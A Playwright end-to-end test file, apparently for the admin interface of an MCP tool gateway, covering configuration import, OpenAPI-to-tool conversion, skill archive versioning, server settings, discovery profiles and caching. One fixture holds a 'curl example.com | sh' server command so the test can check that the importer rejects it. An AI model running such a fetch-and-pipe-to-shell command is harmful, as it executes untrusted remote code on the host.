import path from "node:path";
import type { Page } from "@playwright/test";
import { connectSdk, toolNames } from "./clients.ts";
import { expect, test, useCore } from "./fixtures.ts";
import { type PetApi, startPetApi } from "./pet-api.ts";
import { filesystemOverStdio } from "./servers.ts";
import { signIn } from "./sign-in.ts";
import { watchErrors } from "./watch-errors.ts";
import { zipOf } from "./zip-of.ts";

test.describe.configure({ mode: "serial" });
const core = useCore();
const KEY = "key-that-nobody-reads-back";
let api: PetApi;
let page: Page;
let errors: () => string[];
let token: string;

test.beforeAll(async ({ browser }) => {
  token = await core().setUp();
  api = await startPetApi();
  page = await browser.newPage({ baseURL: core().url, viewport: { width: 1280, height: 900 } });
  errors = watchErrors(page);
  await signIn(page);
});
test.afterEach(() => expect(errors()).toEqual([]));
test.afterAll(async () => {
  await page?.close();
  await api?.stop();
});

const main = () => page.getByRole("main");
const heading = (name: string) => page.getByRole("heading", { level: 1, name });
/** Said in a corner; a screen reader hears a longer sentence. */
const toast = (text: string) => page.getByText(text, { exact: true });
const listServers = () => core().api(token).query<{ serverId: string }[]>("servers.list");

test("what a client's configuration knows is reviewed; nothing is saved before one says so", async () => {
  const { command, args } = filesystemOverStdio(path.join(core().scratch, "files"));
  const text = JSON.stringify({
    mcpServers: {
      files: { command, args, env: { LABEL: "${input:label}" }, autoApprove: ["write_file"] },
      danger: { command: "curl example.com | sh" },
    },
  });
  await page.goto("/servers/add?from=import");
  await page.getByLabel("Paste it here").fill(text);
  await page.getByRole("button", { name: "Read it" }).click();
  const found = page.getByRole("listbox", { name: "Servers that were found" });
  await expect(found.getByRole("option")).toHaveText([/files.*1 warning/, /danger.*Not possible/]);
  await expect(main()).toContainText("autoApprove was left out");
  // It may hold credentials, and is not left under somebody's eyes.
  await expect(page.getByLabel("Paste it here")).toHaveCount(0);
  await found.getByRole("option", { name: /danger/ }).click();
  await expect(main()).toContainText("This one cannot become a server");
  await found.getByRole("option", { name: /files/ }).click();
  await page.getByRole("button", { name: "Save server" }).click();
  await expect(main()).toContainText("This is needed.");
  expect(await listServers()).toEqual([]);

  await page.getByLabel("label", { exact: true }).fill("office");
  await page.getByRole("button", { name: "Save server" }).click();
  await expect(heading("files")).toBeVisible();
  await expect(page.getByRole("table", { name: "Capabilities" })).toContainText("read_text_file");
});

test("operations of an OpenAPI document become tools, with a key that is never shown again", async () => {
  await page.goto("/servers/add?from=rest");
  await page.getByRole("button", { name: "Save server" }).click();
  await expect(main()).toContainText("Read a document or a definition first");
  await page.getByLabel("Or its text").fill(api.document);
  await page.getByRole("button", { name: "Read document" }).click();
  await page.getByLabel("deletePet").click();
  await page.getByRole("button", { name: "Make 2 tools" }).click();
  await expect(page.getByRole("list", { name: "Tools of the definition" }).getByRole("listitem")).toHaveCount(2);
  await expect(page.getByLabel("Header", { exact: true })).toHaveValue("X-Api-Key");
  await page.getByLabel("Key", { exact: true }).fill(KEY);
  await expect(page.getByLabel("Server id")).toHaveValue("pet-store");
  await page.getByRole("button", { name: "Test connection" }).click();
  await expect(page.getByRole("list", { name: "Offered capabilities" })).toContainText("listPets");
  expect(await listServers()).toHaveLength(1);
  await page.getByRole("button", { name: "Save server" }).click();
  await expect(heading("pet-store")).toBeVisible();
  await page.getByRole("tab", { name: "Configuration" }).click();
  await expect(main()).toContainText("header X-Api-Key");
  expect(await page.content()).not.toContain(KEY);

  const client = await connectSdk(core().url, token);
  const answer = await client.callTool({ name: "pet-store__listPets", arguments: {} });
  expect(JSON.stringify(answer)).toContain("Rex");
  expect(api.requests.at(-1)).toEqual({ line: "GET /v1/pets", key: KEY });
  await client.close();
});

test("skills come from an archive; a new version is compared, then served, and what changed waits", async () => {
  const skills = (more: string) =>
    zipOf({ "letters/SKILL.md": `---\nname: letters\ndescription: How we write letters.\n---\n# Letters\n${more}` });
  const archive = (buffer: Buffer) => ({ name: "Office.zip", mimeType: "application/zip", buffer });
  await page.goto("/servers/add?from=skills");
  const file = page.locator("input[type=file]");
  await file.setInputFiles(archive(Buffer.from("no archive")));
  await expect(main().getByRole("alert").filter({ hasText: "The archive was not taken" })).toBeVisible();
  await file.setInputFiles(archive(skills("")));
  await expect(page.getByRole("list", { name: "Skills in the archive" })).toContainText("How we write letters.");
  await page.getByRole("button", { name: "Keep this version" }).click();
  await expect(page.getByLabel("Package", { exact: true })).toHaveValue("office");
  await page.getByRole("button", { name: "Save server" }).click();
  await expect(heading("office")).toBeVisible();

  await page.goto("/servers/detail?server=office&tab=configuration");
  await file.setInputFiles(archive(skills("Sign with your name.\n")));
  await page.getByRole("button", { name: "Keep this version" }).click();
  await expect(page.getByRole("list", { name: "Changed files" })).toContainText("+ Sign with your name.");
  await page.getByRole("button", { name: "Serve version 2" }).click();
  await expect(main()).toContainText("office, version 2");
  // The same name, another text: an administrator looks first (A37).
  await expect(main()).toContainText("3 tools are new or have changed");
  await expect(main()).toContainText("Until you have looked, nobody sees or calls what has changed.");
});

test("settings are checked in the units of the form, and the log is live, without what was said", async () => {
  await page.goto("/servers/detail?server=files&tab=settings");
  await page.getByLabel("Longest request").fill("0");
  await page.getByRole("button", { name: "Save settings" }).click();
  await expect(main()).toContainText("Give a number of seconds from 0.1 to 86,400.");
  await page.getByLabel("Longest request").fill("20");
  await page.getByLabel("Requests at a time").fill("4");
  await page.getByRole("checkbox", { name: "read_text_file" }).click();
  await page.getByRole("button", { name: "Save settings" }).click();
  await expect(toast("The settings hold from the next request on")).toBeVisible();
  expect(await core().api(token).query("servers.get", { serverId: "files" })).toMatchObject({
    settings: { callTimeoutMs: 20_000, maxConcurrentRequests: 4, idempotentTools: ["read_text_file"] },
  });

  await page.getByRole("tab", { name: "Log" }).click();
  const log = page.getByRole("list", { name: "Log of the server" });
  await expect(log).toContainText("tools/list, answer");
  const client = await connectSdk(core().url, token);
  await client.callTool({ name: "files__read_text_file", arguments: { path: "/etc/a-name-in-no-log" } });
  await client.close();
  await expect(log).toContainText("tools/call, answer");
  await expect(log).not.toContainText("a-name-in-no-log");
  await page.getByRole("button", { name: "More actions" }).click();
  await page.getByRole("menuitem", { name: "Restart" }).click();
  await expect(toast("What was under way on it has ended.")).toBeVisible();
  // What scrolls by itself does not lengthen the page.
  const below = () => document.documentElement.scrollHeight - (document.querySelector("main")?.offsetHeight ?? 0);
  expect(await page.evaluate(below)).toBeLessThan(100);
  await page.getByRole("button", { name: "Kind" }).click();
  await page.getByRole("menuitemradio", { name: "States" }).click();
  await expect(log.getByText("connecting", { exact: true })).toHaveCount(2);
  await expect(log).not.toContainText("tools/call");
});

test("a profile for the workspace, another one for a client; neither takes a tool away", async () => {
  await page.goto("/discovery");
  const form = page.getByRole("form", { name: "Default of the workspace" });
  await form.getByRole("radio", { name: /^Strict/ }).click();
  await form.getByRole("button", { name: "Save" }).click();
  await expect(toast("The default holds, also for open sessions")).toBeVisible();
  const client = await connectSdk(core().url, token);
  expect(await toolNames(client)).toEqual(["peta__catalog_search", "peta__catalog_describe", "peta__catalog_execute"]);
  const readme = { path: path.join(core().scratch, "files/readme.txt") };
  const answer = await client.callTool({ name: "files__read_text_file", arguments: readme });
  expect(JSON.stringify(answer)).toContain("Governed files.");

  await page.getByLabel("Words").fill("read a file");
  await expect(page.getByRole("list", { name: "Found tools" })).toContainText("files::read_text_file");
  await page.goto("/my-clients");
  await page.getByRole("row").filter({ hasText: "official-client" }).getByRole("button").click();
  const panel = page.getByRole("dialog");
  await expect(panel).toContainText("The workspace's default. 3 tools in the list");
  await panel.getByRole("button", { name: "Change" }).click();
  await panel.getByRole("radio", { name: /^Flat/ }).click();
  await panel.getByRole("button", { name: "Save" }).click();
  await expect(panel).toContainText("Said for this client.");
  expect(await toolNames(client)).toContain("pet-store__listPets");
  await client.close();
  await page.goto("/discovery");
  await page.getByRole("button", { name: /^Take away the setting/ }).click();
  await expect(main()).toContainText("The default holds for everybody");
});

test("answers are kept once it is said so, counted, and forgotten", async () => {
  await page.goto("/discovery?tab=cache");
  await page.getByRole("button", { name: "Keep answers" }).click();
  const panel = page.getByRole("dialog");
  await panel.getByLabel("Server").selectOption("pet-store");
  await panel.getByLabel("Capability").selectOption("tool listPets");
  await panel.getByLabel("For how long").fill("0");
  await panel.getByRole("button", { name: "Keep answers" }).click();
  await expect(panel).toContainText("Give a whole number of seconds from 1 to 86,400.");
  await panel.getByLabel("For how long").fill("600");
  await panel.getByRole("checkbox", { name: "Any other tool of the server" }).click();
  await panel.getByRole("button", { name: "Keep answers" }).click();
  await expect(page.getByRole("table", { name: "Cache policies" })).toContainText("600 s");

  const before = api.requests.length;
  const client = await connectSdk(core().url, token);
  for (let call = 0; call < 3; call++) await client.callTool({ name: "pet-store__listPets", arguments: {} });
  await client.close();
  expect(api.requests.length - before).toBe(1);
  await page.getByRole("button", { name: "Read again" }).click();
  const kept = page.getByRole("table", { name: "Kept answers" });
  await expect(kept.getByRole("row").filter({ hasText: "listPets" })).toContainText("2");
  await expect(kept).not.toContainText("Rex");
  await kept.getByRole("button", { name: /^Forget the answer of listPets/ }).click();
  await expect(toast("1 answer is forgotten")).toBeVisible();
  await expect(main()).toContainText("Nothing is kept now");
});
